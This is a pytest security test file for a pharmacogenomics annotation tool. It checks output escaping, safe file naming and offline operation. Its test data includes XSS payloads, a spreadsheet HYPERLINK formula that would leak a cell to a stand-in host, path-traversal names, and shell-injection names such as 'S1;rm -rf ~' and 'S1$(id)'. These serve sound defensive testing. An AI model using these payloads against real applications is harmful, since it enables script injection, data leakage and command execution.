"""Security and privacy: hostile text is escaped, hostile names refused, no network use."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hardening_helpers import FILES, Scratch, outputs, run_workflow, workflow_env

from pgxannot import cli
from pgxannot.config import load_sample_sheet
from pgxannot.errors import SampleSheetError

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)",
    "' onmouseover='alert(4)",
    "</textarea><svg onload=alert(5)>",
    '=HYPERLINK("http://example.invalid/?"&A1)',
]
INDICATION = '<a href="javascript:alert(6)">pain</a><iframe src="http://example.invalid/">'
TUMOUR = "breast<style>body{display:none}</style>"


class _Audit(HTMLParser):
    """Collects what a browser would execute or load: scripts, event handlers, URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action", "formaction") and value:
                self.urls.append(value)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def _audit(html: str) -> _Audit:
    a = _Audit()
    a.feed(html)
    return a


def _assert_inert(html: str, *, where: str) -> None:
    for p in [*PAYLOADS, INDICATION, TUMOUR]:
        if not set(p) & set("<>\"'&"):
            continue  # plain text such as "javascript:alert(3)" is harmless outside an attribute
        assert p not in html, f"{where}: payload {p!r} appears unescaped"
    a = _audit(html)
    assert "iframe" not in a.tags, f"{where}: injected <iframe>"
    assert "x" not in a.urls, f"{where}: injected <img src=x>"
    assert not [h for h in a.handlers if h[1] in ("onerror", "onload", "onmouseover")], f"{where}: {a.handlers}"
    assert not [u for u in a.urls if u.strip().lower().startswith("javascript:")], f"{where}: javascript: URL"
    assert not [u for u in a.urls if "example.invalid" in u], f"{where}: payload URL became a link"
    assert "alert(" not in "".join(a.script_text), f"{where}: payload inside a <script>"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """Annotate (in-process CLI) a sample whose sheet carries script/attribute/URL payloads."""
    root = tmp_path_factory.mktemp("hostile")
    vcf = root / "good.vcf"
    vcf.write_bytes((FILES / "good.vcf").read_bytes())
    meds = ";".join([*PAYLOADS, "clopidogrel"])
    (root / "samples.tsv").write_text(
        "sample\tvcf\tmedications\tindication\ttumor_type\n"
        f"S1\t{vcf}\t{meds}\t{INDICATION}\t{TUMOUR}\n", encoding="utf-8")
    (root / "config.yaml").write_text("samples: samples.tsv\n", encoding="utf-8")
    out = root / "results" / "reports"
    import os

    old = Path.cwd()
    os.chdir(root)
    try:
        assert cli.main(["annotate", "--config", "config.yaml", "--samples", "S1", "--outdir", str(out),
                         "--index-dir", str(root / "results" / "work" / "index")]) == 0
        assert cli.main(["cohort", "--reports-dir", str(out), "--html", str(root / "results/cohort/summary.html"),
                         "--tsv", str(root / "results/cohort/calls.tsv"), str(out / "S1.json")]) == 0
    finally:
        os.chdir(old)
    return root


def test_payloads_reach_the_report_escaped(hostile_run: Path) -> None:
    html = (hostile_run / "results" / "reports" / "S1.html").read_text(encoding="utf-8")
    # the medications are shown (so escaping, not omission, is what is tested)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    _assert_inert(html, where="S1.html")
    doc = json.loads((hostile_run / "results" / "reports" / "S1.json").read_text(encoding="utf-8"))
    assert PAYLOADS[0] in doc["patient"]["medications"]  # JSON keeps the user's text verbatim
    assert doc["patient"]["indication"] == INDICATION


def test_cohort_page_is_inert(hostile_run: Path) -> None:
    _assert_inert((hostile_run / "results" / "cohort" / "summary.html").read_text(encoding="utf-8"),
                  where="summary.html")


def test_tsv_has_no_spreadsheet_formula(hostile_run: Path) -> None:
    """A cell starting with '=' would run as a formula when the TSV is opened in a spreadsheet."""
    for name in ("reports/S1.tsv", "cohort/calls.tsv"):
        text = (hostile_run / "results" / name).read_text(encoding="utf-8")
        cells = [c for line in text.splitlines() for c in line.split("\t")]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name


@pytest.mark.parametrize("name", [
    "<script>alert(1)</script>", "../../etc/passwd", "a/b", "a\\b", "S 1", "-rf", ".hidden", "S1;rm -rf ~",
    "S1$(id)", "S1`id`", "Ş1", "x" * 129, "S1\"onmouseover=alert(1)", "%2e%2e%2f", "..", "~root",
])
def test_hostile_sample_names_get_inert_file_names(tmp_path: Path, name: str) -> None:
    """Any id the VCF allows is accepted (issue #16); its files get a name that cannot leave
    the output folder, start an option, hide itself or run in a shell (pgxannot.sample_ids)."""
    vcf = tmp_path / "a.vcf"
    vcf.write_text("##fileformat=VCFv4.2\n")
    sheet = tmp_path / "samples.tsv"
    sheet.write_text(f"sample\tvcf\n{name}\t{vcf}\n", encoding="utf-8")
    (row,) = load_sample_sheet(sheet)
    assert row.sample == name
    stem = row.file_stem
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._~-]*", stem) and ".." not in stem, stem
    assert (tmp_path / "results" / "reports" / f"{stem}.html").resolve().parent == tmp_path / "results" / "reports"


@pytest.mark.parametrize("name", ["S1\x00", "S1\x1b[31m", "S1\x7f"])
def test_sample_names_with_control_characters_are_refused(tmp_path: Path, name: str) -> None:
    vcf = tmp_path / "a.vcf"
    vcf.write_text("##fileformat=VCFv4.2\n")
    sheet = tmp_path / "samples.tsv"
    sheet.write_text(f"sample\tvcf\n{name}\t{vcf}\n", encoding="utf-8")
    with pytest.raises(SampleSheetError) as info:
        load_sample_sheet(sheet)
    msg = info.value.one_line()
    assert "\n" not in msg and str(sheet) in msg and "line 2" in msg and "control character" in msg


def test_network_hook_blocks_connections(tmp_path: Path) -> None:
    """The offline check below is only meaningful if the hook really blocks sockets."""
    scratch = Scratch(tmp_path).make()
    code = ("import socket\n"
            "try:\n    socket.create_connection(('127.0.0.1', 9), timeout=2)\n"
            "except OSError as e:\n    print('blocked' if 'hardening' in str(e) else 'other', e)\n"
            "else:\n    print('connected')\n"
            "try:\n    socket.getaddrinfo('pypi.org', 443)\n"
            "except OSError as e:\n    print('dns-blocked' if 'hardening' in str(e) else 'dns-other')\n")
    p = subprocess.run([sys.executable, "-c", code], env=workflow_env(scratch, "no-network"),
                       capture_output=True, text=True, timeout=60, check=False)
    assert p.stdout.split()[:1] == ["blocked"], p.stdout + p.stderr
    assert "dns-blocked" in p.stdout


@pytest.mark.slow
def test_whole_workflow_runs_with_network_blocked(tmp_path: Path) -> None:
    """Every process of `pgxannot run` with socket connect()/DNS blocked: reports still appear."""
    scratch = Scratch(tmp_path).make()
    for name in ("good_multi.vcf", "outside_ok.tsv"):
        (scratch.inp / name).write_bytes((FILES / name).read_bytes())
    (scratch.out / "samples.tsv").write_text(
        "sample\tvcf\tmedications\toutside_calls\ttumor_type\n"
        f"S1\t{scratch.inp}/good_multi.vcf\tclopidogrel\t{scratch.inp}/outside_ok.tsv\tbreast\n"
        f"S3\t{scratch.inp}/good_multi.vcf\t\t\t\n", encoding="utf-8")
    (scratch.out / "config.yaml").write_text("samples: samples.tsv\n", encoding="utf-8")
    p = run_workflow(scratch.out, workflow_env(scratch, "no-network"), cwd=scratch.elsewhere)
    assert p.returncode == 0, p.stderr[-3000:]
    files = outputs(scratch.out)
    for s in ("S1", "S3"):
        for ext in ("json", "tsv", "html", "fhir.json"):
            assert f"results/reports/{s}.{ext}" in files
    doc = json.loads(files["results/reports/S1.json"])
    assert next(g for g in doc["genes"] if g["gene"] == "CYP2C19")["diplotypes"] == ["*1/*2"]
    assert "Traceback" not in p.stderr
